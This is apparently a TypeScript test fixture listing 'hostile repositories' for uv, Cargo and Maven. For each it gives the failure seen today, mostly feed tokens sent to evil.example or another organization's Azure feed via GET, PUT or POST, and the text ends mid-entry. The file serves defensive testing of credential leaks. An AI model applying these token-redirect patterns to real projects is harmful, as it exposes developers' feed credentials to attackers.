/** What somebody gets today, or what fails although it means no harm. */
export interface KnownFailure {
  /** Where the token arrives and in which form; or what is wrong instead. */
  readonly today: string;
  /** Set where chance decides: uv takes the first of several fitting indexes from a hash table. */
  readonly sometimes?: true;
}

/**
 * Hostile repositories that fail today, by their id. The suite is green with them; one that is well and still listed
 * turns it red.
 */
export const failsToday: ReadonlyMap<string, KnownFailure> = new Map<string, KnownFailure>([
  [
    "uv-path-dependency",
    { today: "elsewhere: GET https://evil.example/simple/evil/ (in base64), and 2 more" },
  ],
  [
    "uv-path-dependency-missing",
    { today: "elsewhere: GET https://missing.evil.example/simple/evil/ (in base64)" },
  ],
  [
    "uv-path-dependency-open",
    { today: "elsewhere: GET https://open.evil.example/simple/evil/ (in base64), and 2 more" },
  ],
  [
    "uv-path-dependency-case",
    { today: "elsewhere: GET https://evil.example/simple/evil/ (in base64), and 2 more" },
  ],
  [
    "uv-path-dependency-punctuation",
    { today: "elsewhere: GET https://evil.example/simple/evil/ (in base64), and 2 more" },
  ],
  [
    "uv-path-dependency-realm",
    { today: "elsewhere: GET https://evil.example/simple/evil/ (in base64), and 2 more" },
  ],
  ["uv-editable", { today: "elsewhere: GET https://evil.example/simple/evil/ (in base64), and 2 more" }],
  ["uv-member", { today: "elsewhere: GET https://evil.example/simple/evil/ (in base64), and 2 more" }],
  ["uv-member-group", { today: "elsewhere: GET https://evil.example/simple/evil/ (in base64), and 2 more" }],
  [
    "uv-build-requires",
    { today: "elsewhere: GET https://evil.example/simple/evil/ (in base64), and 2 more" },
  ],
  ["uv-nested", { today: "elsewhere: GET https://evil.example/simple/evil/ (in base64), and 2 more" }],
  [
    "uv-nested-directory",
    { today: "elsewhere: GET https://evil.example/simple/evil/ (in base64), and 2 more" },
  ],
  ["uv-nested-realm", { today: "elsewhere: GET https://evil.example/simple/evil/ (in base64), and 2 more" }],
  ["uv-nested-add", { today: "elsewhere: GET https://evil.example/simple/evil/ (in base64), and 1 more" }],
  ["uv-nested-tree", { today: "elsewhere: GET https://evil.example/simple/evil/ (in base64), and 2 more" }],
  [
    "uv-nested-compile",
    { today: "elsewhere: GET https://evil.example/simple/evil/ (in base64), and 2 more" },
  ],
  [
    "uv-nested-editable",
    { today: "elsewhere: GET https://evil.example/simple/evil/ (in base64), and 2 more" },
  ],
  [
    "uv-nested-uv-toml",
    { today: "elsewhere: GET https://evil.example/simple/evil/ (in base64), and 2 more" },
  ],
  [
    "uv-nested-feeds-input",
    { today: "elsewhere: GET https://evil.example/simple/evil/ (in base64), and 2 more" },
  ],
  ["uv-late", { today: "elsewhere: GET https://evil.example/simple/evil/ (in base64), and 2 more" }],
  ["uv-script-run", { today: "elsewhere: GET https://evil.example/simple/evil/ (in base64), and 2 more" }],
  ["uv-script-lock", { today: "elsewhere: GET https://evil.example/simple/evil/ (in base64), and 2 more" }],
  ["uv-script-sync", { today: "elsewhere: GET https://evil.example/simple/evil/ (in base64), and 2 more" }],
  ["uv-script-export", { today: "elsewhere: GET https://evil.example/simple/evil/ (in base64), and 2 more" }],
  ["uv-script-tree", { today: "elsewhere: GET https://evil.example/simple/evil/ (in base64), and 2 more" }],
  ["uv-script-realm", { today: "elsewhere: GET https://evil.example/simple/evil/ (in base64), and 2 more" }],
  [
    "uv-expand-direct-index",
    { today: "elsewhere: GET https://evil.example/<token>/evil-1.0.0-py3-none-any.whl (as it is)" },
  ],
  [
    "uv-expand-direct-realm",
    { today: "elsewhere: GET https://evil.example/<token>/evil-1.0.0-py3-none-any.whl (as it is)" },
  ],
  [
    "uv-expand-line-1",
    {
      today:
        "elsewhere: GET https://evil.example/<token>/evil-1.0.0-py3-none-any.whl/fabrikam-greeting/ (as it is), and 1 more",
    },
  ],
  [
    "uv-expand-line-2",
    {
      today:
        "elsewhere: GET https://evil.example/<token>/evil-1.0.0-py3-none-any.whl/fabrikam-greeting/ (as it is), and 1 more",
    },
  ],
  [
    "uv-expand-line-3",
    { today: "elsewhere: GET https://evil.example/<token>/evil-1.0.0-py3-none-any.whl (as it is)" },
  ],
  [
    "uv-expand-line-4",
    { today: "elsewhere: GET https://evil.example/<token>/evil-1.0.0-py3-none-any.whl (as it is)" },
  ],
  [
    "uv-expand-line-5",
    { today: "elsewhere: GET https://evil.example/<token>/evil-1.0.0-py3-none-any.whl (as it is)" },
  ],
  [
    "uv-expand-line-6",
    { today: "elsewhere: HEAD https://evil.example/<token>/evil-1.0.0-py3-none-any.whl (as it is)" },
  ],
  [
    "uv-expand-script",
    { today: "elsewhere: HEAD https://evil.example/<token>/evil-1.0.0-py3-none-any.whl (as it is)" },
  ],
  [
    "uv-expand-cargo",
    { today: "elsewhere: GET https://evil.example/Bearer%20<token>/evil-1.0.0-py3-none-any.whl (as it is)" },
  ],
  [
    "uv-expand-maven",
    { today: "elsewhere: GET https://evil.example/<token>/evil-1.0.0-py3-none-any.whl (as it is)" },
  ],
  [
    "uv-second-index-northwind",
    {
      today:
        "other organization: GET https://pkgs.dev.azure.com/northwind/_packaging/parts/pypi/simple/contoso-greeting/ (in base64), and 1 more",
    },
  ],
  [
    "uv-second-index-adventure",
    {
      today:
        "other organization: GET https://pkgs.dev.azure.com/adventure/_packaging/parts/pypi/simple/contoso-greeting/ (in base64), and 1 more",
    },
  ],
  [
    "uv-second-index-wingtip",
    {
      today:
        "other organization: GET https://pkgs.dev.azure.com/wingtip/_packaging/parts/pypi/simple/contoso-greeting/ (in base64), and 1 more",
    },
  ],
  [
    "uv-second-index-litware",
    {
      today:
        "other organization: GET https://pkgs.dev.azure.com/litware/_packaging/parts/pypi/simple/contoso-greeting/ (in base64), and 1 more",
    },
  ],
  [
    "uv-second-index-woodgrove",
    {
      today:
        "other organization: GET https://pkgs.dev.azure.com/woodgrove/_packaging/parts/pypi/simple/contoso-greeting/ (in base64), and 1 more",
    },
  ],
  [
    "uv-second-index-lucerne",
    {
      today:
        "other organization: GET https://pkgs.dev.azure.com/lucerne/_packaging/parts/pypi/simple/contoso-greeting/ (in base64), and 1 more",
    },
  ],
  ["uv-second-index-server-1", { today: "other organization: a request with the token", sometimes: true }],
  [
    "uv-second-index-server-2",
    {
      today:
        "other organization: GET http://127.0.0.1/Other2/_packaging/parts/pypi/simple/contoso-greeting/ (in base64), and 1 more",
      sometimes: true,
    },
  ],
  [
    "uv-second-index-server-3",
    {
      today:
        "other organization: GET http://127.0.0.1/Other3/_packaging/parts/pypi/simple/contoso-greeting/ (in base64), and 1 more",
      sometimes: true,
    },
  ],
  [
    "uv-second-index-library",
    {
      today:
        "other organization: GET https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/simple/evil/ (in base64)",
    },
  ],
  [
    "uv-direct",
    {
      today:
        "other organization: GET https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/download/contoso-greeting/1.0.0/contoso_greeting-1.0.0-py3-none-any.whl (in base64)",
    },
  ],
  [
    "uv-direct-server",
    {
      today:
        "other organization: GET http://127.0.0.1/OtherCollection/_packaging/parts/pypi/download/contoso-greeting/1.0.0/contoso_greeting-1.0.0-py3-none-any.whl (in base64)",
    },
  ],
  [
    "uv-direct-user",
    {
      today:
        "other organization: GET https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/download/contoso-greeting/1.0.0/contoso_greeting-1.0.0-py3-none-any.whl (in base64)",
    },
  ],
  [
    "uv-direct-dots",
    {
      today:
        "other organization: GET https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/download/contoso-greeting/1.0.0/contoso_greeting-1.0.0-py3-none-any.whl (in base64)",
    },
  ],
  [
    "uv-direct-group",
    {
      today:
        "other organization: GET https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/download/contoso-greeting/1.0.0/contoso_greeting-1.0.0-py3-none-any.whl (in base64)",
    },
  ],
  [
    "uv-source",
    {
      today:
        "other organization: GET https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/download/contoso-greeting/1.0.0/contoso_greeting-1.0.0-py3-none-any.whl (in base64)",
    },
  ],
  [
    "uv-find-links",
    {
      today:
        "other organization: GET https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/simple/contoso-greeting/ (in base64)",
    },
  ],
  [
    "uv-constraint",
    {
      today:
        "other organization: GET https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/download/contoso-greeting/1.0.0/contoso_greeting-1.0.0-py3-none-any.whl (in base64)",
    },
  ],
  [
    "uv-override",
    {
      today:
        "other organization: GET https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/download/contoso-greeting/1.0.0/contoso_greeting-1.0.0-py3-none-any.whl (in base64)",
    },
  ],
  [
    "uv-build-direct",
    {
      today:
        "other organization: HEAD https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/download/contoso-greeting/1.0.0/contoso_greeting-1.0.0-py3-none-any.whl (in base64)",
    },
  ],
  [
    "uv-line-1",
    {
      today:
        "other organization: GET https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/simple/fabrikam-greeting/ (in base64), and 1 more",
    },
  ],
  [
    "uv-line-2",
    {
      today:
        "other organization: GET https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/simple/fabrikam-greeting/ (in base64), and 1 more",
    },
  ],
  [
    "uv-line-3",
    {
      today:
        "other organization: GET https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/simple/contoso-greeting/ (in base64)",
    },
  ],
  [
    "uv-line-6",
    {
      today:
        "other organization: HEAD https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/download/contoso-greeting/1.0.0/contoso_greeting-1.0.0-py3-none-any.whl (in base64)",
    },
  ],
  [
    "uv-lock-url",
    {
      today:
        "other organization: GET https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/download/contoso-greeting/1.0.0/contoso_greeting-1.0.0-py3-none-any.whl (in base64)",
    },
  ],
  [
    "uv-lock-registry",
    {
      today:
        "other organization: GET https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/download/contoso-greeting/1.0.0/contoso_greeting-1.0.0-py3-none-any.whl (in base64)",
    },
  ],
  [
    "uv-pylock",
    {
      today:
        "other organization: GET https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/download/contoso-greeting/1.0.0/contoso_greeting-1.0.0-py3-none-any.whl (in base64)",
    },
  ],
  [
    "uv-script-direct",
    {
      today:
        "other organization: HEAD https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/download/contoso-greeting/1.0.0/contoso_greeting-1.0.0-py3-none-any.whl (in base64)",
    },
  ],
  [
    "uv-publish-url-other",
    {
      today:
        "other organization: POST https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/upload/ (in base64)",
    },
  ],
  [
    "uv-publish-index-nested",
    { today: "elsewhere: GET https://evil.example/simple/lab6/ (in base64), and 1 more" },
  ],
  [
    "uv-insecure-both",
    {
      today:
        "elsewhere: GET https://pkgs.dev.azure.com/fabrikam/Fabrikam%20Fiber/_packaging/fiber/pypi/simple/fabrikam-greeting/ (in base64)",
    },
  ],
  [
    "uv-insecure-scheme",
    {
      today:
        "elsewhere: GET https://pkgs.dev.azure.com/fabrikam/Fabrikam%20Fiber/_packaging/fiber/pypi/simple/fabrikam-greeting/ (in base64)",
    },
  ],
  [
    "uv-insecure-all",
    {
      today:
        "elsewhere: GET https://pkgs.dev.azure.com/fabrikam/Fabrikam%20Fiber/_packaging/fiber/pypi/simple/fabrikam-greeting/ (in base64)",
    },
  ],
  [
    "uv-insecure-no-environment",
    {
      today:
        "elsewhere: GET https://pkgs.dev.azure.com/fabrikam/Fabrikam%20Fiber/_packaging/fiber/pypi/simple/fabrikam-greeting/ (in base64)",
    },
  ],
  [
    "uv-insecure-uv-toml",
    {
      today:
        "elsewhere: GET https://pkgs.dev.azure.com/fabrikam/Fabrikam%20Fiber/_packaging/fiber/pypi/simple/fabrikam-greeting/ (in base64)",
    },
  ],
  ["uv-insecure-alone", { today: "not refused" }],
  [
    "uv-insecure-script",
    {
      today:
        "elsewhere: GET https://pkgs.dev.azure.com/fabrikam/Fabrikam%20Fiber/_packaging/fiber/pypi/simple/fabrikam-greeting/ (in base64)",
    },
  ],
  [
    "uv-insecure-nested",
    {
      today:
        "elsewhere: GET https://pkgs.dev.azure.com/fabrikam/Fabrikam%20Fiber/_packaging/fiber/pypi/simple/fabrikam-greeting/ (in base64)",
    },
  ],
  [
    "uv-insecure-server",
    {
      today:
        "elsewhere: GET http://127.0.0.1/DefaultCollection/Fabrikam%20Fiber/_packaging/fiber/pypi/simple/fabrikam-greeting/ (in base64)",
    },
  ],
  [
    "uv-address-double-slash",
    {
      today:
        "other organization: GET https://pkgs.dev.azure.com//contoso/_packaging/parts/pypi/simple/evil/ (in base64)",
    },
  ],
  [
    "uv-address-server-collection",
    {
      today:
        "other organization: GET http://127.0.0.1/OtherCollection/_packaging/parts/pypi/simple/evil/ (in base64)",
      sometimes: true,
    },
  ],
  [
    "uv-address-server-collection-dots",
    { today: "other organization: a request with the token", sometimes: true },
  ],
  [
    "cargo-nested-fetch",
    { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 1 more" },
  ],
  [
    "cargo-nested-generate-lockfile",
    { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 1 more" },
  ],
  [
    "cargo-nested-metadata",
    { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 1 more" },
  ],
  [
    "cargo-nested-update",
    { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 1 more" },
  ],
  [
    "cargo-nested-tree",
    { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 1 more" },
  ],
  [
    "cargo-nested-check",
    { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 1 more" },
  ],
  [
    "cargo-nested-vendor",
    { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 1 more" },
  ],
  [
    "cargo-nested-package",
    { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 1 more" },
  ],
  [
    "cargo-nested-search",
    { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 1 more" },
  ],
  [
    "cargo-nested-info",
    { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 2 more" },
  ],
  ["cargo-nested-install", { today: "nobody was asked, so this shows nothing" }],
  [
    "cargo-nested-add",
    { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 1 more" },
  ],
  [
    "cargo-nested-owner",
    { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 1 more" },
  ],
  [
    "cargo-nested-yank",
    { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 1 more" },
  ],
  [
    "cargo-nested-publish",
    { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 2 more" },
  ],
  ["cargo-nested-open", { today: "elsewhere: GET https://open.evil.example/index/ev/il/evil (as it is)" }],
  [
    "cargo-nested-old-name",
    { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 1 more" },
  ],
  [
    "cargo-nested-inline",
    { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 1 more" },
  ],
  [
    "cargo-nested-dotted",
    { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 1 more" },
  ],
  [
    "cargo-nested-provider",
    { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 1 more" },
  ],
  [
    "cargo-nested-capitals",
    { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 1 more" },
  ],
  [
    "cargo-nested-punctuation",
    { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 1 more" },
  ],
  [
    "cargo-nested-default",
    { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 2 more" },
  ],
  [
    "cargo-nested-feeds-input",
    { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 1 more" },
  ],
  ["cargo-member", { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 1 more" }],
  ["cargo-late", { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 1 more" }],
  [
    "cargo-old-name-late",
    { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 1 more" },
  ],
  [
    "cargo-include-list",
    { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 1 more" },
  ],
  [
    "cargo-include-table",
    { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 1 more" },
  ],
  [
    "cargo-include-optional",
    { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 1 more" },
  ],
  [
    "cargo-include-up",
    { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 1 more" },
  ],
  [
    "cargo-include-chain",
    { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 1 more" },
  ],
  ["cargo-alias", { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 1 more" }],
  [
    "cargo-alias-before",
    { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 1 more" },
  ],
  [
    "cargo-alias-file",
    { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 1 more" },
  ],
  [
    "cargo-alias-nested",
    { today: "elsewhere: GET https://evil.example/index/config.json (as it is), and 1 more" },
  ],
  [
    "cargo-other-nested",
    {
      today:
        "other organization: GET https://pkgs.dev.azure.com/contoso/_packaging/parts/Cargo/index/config.json (as it is)",
    },
  ],
  [
    "cargo-other-nested-server",
    {
      today:
        "other organization: GET http://127.0.0.1/OtherCollection/_packaging/parts/Cargo/index/config.json (as it is)",
    },
  ],
  [
    "cargo-port-nested-server",
    { today: "elsewhere: GET http://127.0.0.1/DefaultCollection/index/config.json (as it is), and 1 more" },
  ],
  [
    "cargo-proxy-cainfo",
    {
      today:
        "elsewhere: GET https://pkgs.dev.azure.com/fabrikam/Fabrikam%20Fiber/_packaging/fiber/Cargo/index/config.json (as it is), and 2 more",
    },
  ],
  [
    "cargo-proxy-cainfo-nested",
    {
      today:
        "elsewhere: GET https://pkgs.dev.azure.com/fabrikam/Fabrikam%20Fiber/_packaging/fiber/Cargo/index/config.json (as it is), and 2 more",
    },
  ],
  [
    "cargo-proxy-cainfo-include",
    {
      today:
        "elsewhere: GET https://pkgs.dev.azure.com/fabrikam/Fabrikam%20Fiber/_packaging/fiber/Cargo/index/config.json (as it is), and 2 more",
    },
  ],
  [
    "cargo-proxy-server",
    {
      today:
        "elsewhere: GET http://127.0.0.1/DefaultCollection/Fabrikam%20Fiber/_packaging/fiber/Cargo/index/config.json (as it is), and 2 more",
    },
  ],
  ["cargo-innocent-nested-name", { today: "the feed does not serve this project" }],
  ["cargo-innocent-feeds-nested", { today: "the feed does not serve this project" }],
  [
    "cargo-innocent-include",
    {
      today:
        "refused: No registry at a feed of fabrikam was found. Looked for .cargo/config.toml in the sources and the folders above, in Cargo's home, and in CARG",
    },
  ],
  [
    "maven-distribution-guessed",
    {
      today:
        "elsewhere: PUT https://evil.example/release/com/lab/release/1.0.0/release-1.0.0.pom (in base64), and 4 more",
    },
  ],
  [
    "maven-distribution-input",
    {
      today:
        "elsewhere: PUT https://evil.example/feedpass-fiber/com/lab/feedpass-fiber/1.0.0/feedpass-fiber-1.0.0.pom (in base64), and 2 more",
    },
  ],
  [
    "maven-distribution-nested",
    { today: "elsewhere: PUT https://evil.example/maven/com/lab/nested/1.0.0/nested-1.0.0.pom (in base64)" },
  ],
  [
    "maven-distribution-late",
    { today: "elsewhere: PUT https://evil.example/maven/com/lab/app/1.0.0/app-1.0.0.pom (in base64)" },
  ],
  [
    "maven-distribution-other",
    {
      today:
        "other organization: PUT https://pkgs.dev.azure.com/contoso/_packaging/parts/maven/v1/com/lab/app/1.0.0/app-1.0.0.pom (in base64)",
    },
  ],
  [
    "maven-distribution-server",
    {
      today:
        "other organization: PUT http://127.0.0.1/OtherCollection/_packaging/parts/maven/v1/com/lab/app/1.0.0/app-1.0.0.pom (in base64)",
    },
  ],
  [
    "maven-distribution-port",
    { today: "elsewhere: PUT http://127.0.0.1/maven/com/lab/app/1.0.0/app-1.0.0.pom (in base64)" },
  ],
  [
    "maven-settings-two-lines",
    { today: "elsewhere: GET https://evil.example/maven/com/evil/evil/1.0.0/evil-1.0.0.pom (in base64)" },
  ],
  [
    "maven-settings-equals",
    { today: "elsewhere: GET https://evil.example/maven/com/evil/evil/1.0.0/evil-1.0.0.pom (in base64)" },
  ],
  [
    "maven-settings-deployment",
    { today: "elsewhere: GET https://evil.example/maven/com/evil/evil/1.0.0/evil-1.0.0.pom (in base64)" },
  ],
  [
    "maven-settings-server",
    { today: "elsewhere: GET https://evil.example/maven/com/evil/evil/1.0.0/evil-1.0.0.pom (in base64)" },
  ],
  [
    "maven-settings-header",
    { today: "elsewhere: GET https://evil.example/maven/com/evil/evil/1.0.0/evil-1.0.0.pom (as it is)" },
  ],
  [
    "maven-settings-address",
    {
      today:
        "elsewhere: GET https://evil.example/<token>/maven/com/evil/evil/1.0.0/evil-1.0.0.pom (as it is)",
    },
  ],
  [
    "maven-settings-variable",
    { today: "elsewhere: GET https://evil.example/maven/com/evil/evil/1.0.0/evil-1.0.0.pom (in base64)" },
  ],
  [
    "maven-settings-home",
    { today: "elsewhere: GET https://evil.example/maven/com/evil/evil/1.0.0/evil-1.0.0.pom (in base64)" },
  ],
  [
    "maven-settings-nested",
    { today: "elsewhere: GET https://evil.example/maven/com/evil/evil/1.0.0/evil-1.0.0.pom (in base64)" },
  ],
  [
    "maven-settings-late",
    { today: "elsewhere: GET https://evil.example/maven/com/evil/evil/1.0.0/evil-1.0.0.pom (in base64)" },
  ],
  [
    "maven-file",
    { today: "elsewhere: PUT https://evil.example/maven/com/lab/evil/1.0.0/evil-1.0.0.pom (in base64)" },
  ],
  [
    "maven-expand-repository",
    {
      today:
        "elsewhere: GET https://evil.example/<token>/maven/com/evil/evil/1.0.0/evil-1.0.0.pom (as it is)",
    },
  ],
  [
    "maven-expand-plugin-repository",
    { today: "elsewhere: GET https://evil.example/<token>/maven/com/evil/evil/1.0/evil-1.0.pom (as it is)" },
  ],
  [
    "maven-expand-distribution",
    { today: "elsewhere: PUT https://evil.example/<token>/maven/com/lab/app/1.0.0/app-1.0.0.pom (as it is)" },
  ],
  [
    "maven-expand-property",
    {
      today:
        "elsewhere: GET https://evil.example/<token>/maven/com/evil/evil/1.0.0/evil-1.0.0.pom (as it is)",
    },
  ],
  [
    "maven-expand-nested",
    {
      today:
        "elsewhere: GET https://evil.example/<token>/maven/com/evil/evil/1.0.0/evil-1.0.0.pom (as it is)",
    },
  ],
  [
    "maven-expand-uv",
    {
      today:
        "elsewhere: GET https://evil.example/<token>/maven/com/evil/evil/1.0.0/evil-1.0.0.pom (as it is)",
    },
  ],
  [
    "maven-altdeploymentrepository",
    { today: "elsewhere: PUT https://evil.example/maven/com/lab/app/1.0.0/app-1.0.0.pom (in base64)" },
  ],
  [
    "maven-altreleasedeploymentrepository",
    { today: "elsewhere: PUT https://evil.example/maven/com/lab/app/1.0.0/app-1.0.0.pom (in base64)" },
  ],
  [
    "maven-alternative-short",
    { today: "elsewhere: PUT https://evil.example/maven/com/lab/app/1.0.0/app-1.0.0.pom (in base64)" },
  ],
  [
    "maven-alternative-guessed",
    { today: "elsewhere: PUT https://evil.example/maven/com/lab/app/1.0.0/app-1.0.0.pom (in base64)" },
  ],
  [
    "maven-alternative-snapshot",
    {
      today:
        "elsewhere: GET https://evil.example/maven/com/lab/app/1.0.0-SNAPSHOT/maven-metadata.xml (in base64), and 1 more",
    },
  ],
  [
    "maven-alternative-jvm",
    { today: "elsewhere: PUT https://evil.example/maven/com/lab/app/1.0.0/app-1.0.0.pom (in base64)" },
  ],
  [
    "maven-alternative-pom",
    {
      today:
        "elsewhere: PUT https://evil.example/property/com/lab/property/1.0.0/property-1.0.0.pom (in base64), and 5 more",
    },
  ],
  [
    "maven-alternative-settings",
    { today: "elsewhere: PUT https://evil.example/maven/com/lab/app/1.0.0/app-1.0.0.pom (in base64)" },
  ],
  [
    "maven-alternative-variable",
    { today: "elsewhere: PUT https://evil.example/maven/com/lab/app/1.0.0/app-1.0.0.pom (in base64)" },
  ],
  [
    "maven-deploy-file-config",
    { today: "elsewhere: PUT https://evil.example/maven/com/lab/app/1.0.0/app-1.0.0.pom (in base64)" },
  ],
  [
    "maven-address-property",
    { today: "elsewhere: PUT https://evil.example/maven/com/lab/app/1.0.0/app-1.0.0.pom (in base64)" },
  ],
  [
    "maven-address-settings",
    { today: "elsewhere: PUT https://evil.example/maven/com/lab/app/1.0.0/app-1.0.0.pom (in base64)" },
  ],
  [
    "maven-address-part",
    {
      today:
        "elsewhere: PUT https://evil.example/fabrikam/Fabrikam%20Fiber/_packaging/fiber/maven/v1/com/lab/app/1.0.0/app-1.0.0.pom (in base64)",
    },
  ],
  [
    "maven-modules-missed",
    {
      today:
        "elsewhere: PUT https://evil.example/folder.xml/pom.xml/com/lab/module-0/1.0.0/module-0-1.0.0.pom (in base64), and 6 more",
    },
  ],
  [
    "maven-expressions",
    {
      today:
        "elsewhere: PUT https://evil.example/m0/<token>/com/lab/m0/1.0.0/m0-1.0.0.pom (as it is), and 4 more",
    },
  ],
  [
    "maven-parent-remote",
    { today: "elsewhere: PUT https://evil.example/maven/com/lab/m/1.0.0/m-1.0.0.pom (in base64)" },
  ],
  [
    "maven-insecure-config",
    {
      today:
        "elsewhere: GET https://pkgs.dev.azure.com/fabrikam/Fabrikam%20Fiber/_packaging/fiber/maven/v1/com/fabrikam/parent/1.0.0/parent-1.0.0.pom (in base64)",
    },
  ],
  [
    "maven-insecure-jvm",
    {
      today:
        "elsewhere: GET https://pkgs.dev.azure.com/fabrikam/Fabrikam%20Fiber/_packaging/fiber/maven/v1/com/fabrikam/parent/1.0.0/parent-1.0.0.pom (in base64)",
    },
  ],
  [
    "maven-insecure-settings",
    {
      today:
        "elsewhere: GET https://pkgs.dev.azure.com/fabrikam/Fabrikam%20Fiber/_packaging/fiber/maven/v1/com/fabrikam/parent/1.0.0/parent-1.0.0.pom (in base64)",
    },
  ],
  ["maven-insecure-alone", { today: "not refused" }],
  [
    "maven-store-jvm",
    {
      today:
        "elsewhere: GET https://pkgs.dev.azure.com/fabrikam/Fabrikam%20Fiber/_packaging/fiber/maven/v1/com/fabrikam/parent/1.0.0/parent-1.0.0.pom (in base64)",
    },
  ],
  [
    "maven-store-config",
    {
      today:
        "elsewhere: GET https://pkgs.dev.azure.com/fabrikam/Fabrikam%20Fiber/_packaging/fiber/maven/v1/com/fabrikam/parent/1.0.0/parent-1.0.0.pom (in base64)",
    },
  ],
  [
    "maven-proxy-server",
    {
      today:
        "elsewhere: GET http://127.0.0.1/DefaultCollection/Fabrikam%20Fiber/_packaging/fiber/maven/v1/com/fabrikam/parent/1.0.0/parent-1.0.0.pom (in base64)",
    },
  ],
  [
    "maven-distribution-guessed-3.8",
    {
      today:
        "elsewhere: PUT https://evil.example/release/com/lab/release/1.0.0/release-1.0.0.pom (in base64), and 4 more",
    },
  ],
  [
    "maven-distribution-input-3.8",
    {
      today:
        "elsewhere: PUT https://evil.example/feedpass-fiber/com/lab/feedpass-fiber/1.0.0/feedpass-fiber-1.0.0.pom (in base64), and 2 more",
    },
  ],
  [
    "maven-distribution-nested-3.8",
    { today: "elsewhere: PUT https://evil.example/maven/com/lab/nested/1.0.0/nested-1.0.0.pom (in base64)" },
  ],
  [
    "maven-settings-two-lines-3.8",
    { today: "elsewhere: GET https://evil.example/maven/com/evil/evil/1.0.0/evil-1.0.0.pom (in base64)" },
  ],
  [
    "maven-settings-deployment-3.8",
    { today: "elsewhere: GET https://evil.example/maven/com/evil/evil/1.0.0/evil-1.0.0.pom (in base64)" },
  ],
  [
    "maven-settings-server-3.8",
    { today: "elsewhere: GET https://evil.example/maven/com/evil/evil/1.0.0/evil-1.0.0.pom (in base64)" },
  ],
  [
    "maven-settings-global-3.8",
    { today: "elsewhere: GET https://evil.example/maven/com/evil/evil/1.0.0/evil-1.0.0.pom (in base64)" },
  ],
  [
    "maven-expand-repository-3.8",
    {
      today:
        "elsewhere: GET https://evil.example/<token>/maven/com/evil/evil/1.0.0/evil-1.0.0.pom (as it is)",
    },
  ],
  [
    "maven-expand-distribution-3.8",
    { today: "elsewhere: PUT https://evil.example/<token>/maven/com/lab/app/1.0.0/app-1.0.0.pom (as it is)" },
  ],
  [
    "maven-altdeploymentrepository-3.8",
    { today: "elsewhere: PUT https://evil.example/maven/com/lab/app/1.0.0/app-1.0.0.pom (in base64)" },
  ],
  [
    "maven-alternative-pom-3.8",
    {
      today:
        "elsewhere: PUT https://evil.example/property/com/lab/property/1.0.0/property-1.0.0.pom (in base64), and 5 more",
    },
  ],
  [
    "maven-deploy-file-config-3.8",
    { today: "elsewhere: PUT https://evil.example/maven/com/lab/app/1.0.0/app-1.0.0.pom (in base64)" },
  ],
  [
    "maven-address-property-3.8",
    { today: "elsewhere: PUT https://evil.example/maven/com/lab/app/1.0.0/app-1.0.0.pom (in base64)" },
  ],
  [
    "maven-modules-missed-3.8",
    {
      today:
        "elsewhere: PUT https://evil.example/folder.xml/pom.xml/com/lab/module-0/1.0.0/module-0-1.0.0.pom (in base64), and 6 more",
    },
  ],
  [
    "maven-expressions-3.8",
    {
      today:
        "elsewhere: PUT https://evil.example/m0/<token>/com/lab/m0/1.0.0/m0-1.0.0.pom (as it is), and 4 more",
    },
  ],
  [
    "maven-insecure-config-3.8",
    {
      today:
        "elsewhere: GET https://pkgs.dev.azure.com/fabrikam/Fabrikam%20Fiber/_packaging/fiber/maven/v1/com/fabrikam/parent/1.0.0/parent-1.0.0.pom (in base64)",
    },
  ],
  [
    "maven-store-jvm-3.8",
    {
      today:
        "elsewhere: GET https://pkgs.dev.azure.com/fabrikam/Fabrikam%20Fiber/_packaging/fiber/maven/v1/com/fabrikam/parent/1.0.0/parent-1.0.0.pom (in base64)",
    },
  ],
  [
    "maven-proxy-server-3.8",
    {
      today:
